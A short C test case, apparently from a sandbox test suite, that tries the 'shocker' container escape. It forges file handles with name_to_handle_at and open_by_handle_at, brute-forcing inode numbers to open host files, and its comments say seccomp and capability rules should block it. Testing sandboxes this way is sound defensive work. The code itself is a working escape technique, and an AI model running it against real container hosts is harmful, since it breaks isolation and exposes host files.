// tries: the "shocker" container escape: name_to_handle_at on a bound path, then open_by_handle_at with forged handles (inode 2, the root of the host filesystem, and a brute force over small inode numbers) to open files outside the mount namespace
// allowed: 3
// why: both calls are outside the seccomp allowlist (ENOSYS), and open_by_handle_at needs CAP_DAC_READ_SEARCH besides; the program exits 0 and an opened handle is an escape
// layer: seccomp, caps
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void) {
    struct file_handle *h = malloc(sizeof *h + 128);
    h->handle_bytes = 128;
    int mount_id = 0;
    int r = name_to_handle_at(AT_FDCWD, "/usr", h, &mount_id, 0);
    printf("name_to_handle_at(/usr): %s\n", r < 0 ? strerror(errno) : "got a handle");
    int dir = open("/usr", O_RDONLY | O_DIRECTORY);
    int opened = 0, last = 0;
    for (unsigned ino = 2; ino < 300; ino++) {
        h->handle_bytes = 8;
        h->handle_type = 1; /* FILEID_INO32_GEN */
        memcpy(h->f_handle, &ino, 4);
        memset(h->f_handle + 4, 0, 4);
        int fd = open_by_handle_at(dir, h, O_RDONLY);
        if (fd >= 0) { opened++; close(fd); } else last = errno;
    }
    if (opened) printf("ESCAPED open_by_handle_at opened %d forged handles\n", opened);
    else printf("open_by_handle_at: %s\n", strerror(last));
    return 0;
}
